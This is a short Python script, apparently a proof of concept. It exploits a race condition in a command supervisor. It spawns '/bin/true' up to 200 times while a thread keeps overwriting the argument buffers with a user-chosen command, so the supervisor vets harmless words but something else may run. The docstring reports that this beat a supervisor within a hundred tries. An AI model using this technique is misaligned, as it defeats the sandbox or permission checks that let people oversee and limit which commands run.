"""Start a harmless program again and again, while a thread swaps its words for those of a command.

With a supervisor that judged the words only once, it won within a hundred tries.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import sys
import threading

_ROOM, _TRIES = 300, 200
words = [word.encode() for word in sys.argv[1:]]
command = [os.fsencode(shutil.which(sys.argv[1]) or sys.argv[1]), *words]
harmless = [b"/bin/true", b"true", *(b"x" for _ in words[1:])]
room = [ctypes.create_string_buffer(word, _ROOM) for word in harmless]
argv = (ctypes.c_void_p * len(room))(*[ctypes.addressof(word) for word in room[1:]], None)
variables = [f"{name}={os.environ[name]}".encode() for name in ("PATH", "HOME")]


def swap() -> None:
    while True:
        for new in (command, harmless):
            for place, word in zip(room, new, strict=True):
                ctypes.memmove(place, word + b"\0", len(word) + 1)


threading.Thread(target=swap, daemon=True).start()
pid = ctypes.c_int()
environment = (ctypes.c_char_p * (len(variables) + 1))(*variables, None)
for _ in range(_TRIES):
    if ctypes.CDLL(None).posix_spawn(ctypes.byref(pid), room[0], None, None, argv, environment) == 0:
        os.waitpid(pid.value, 0)
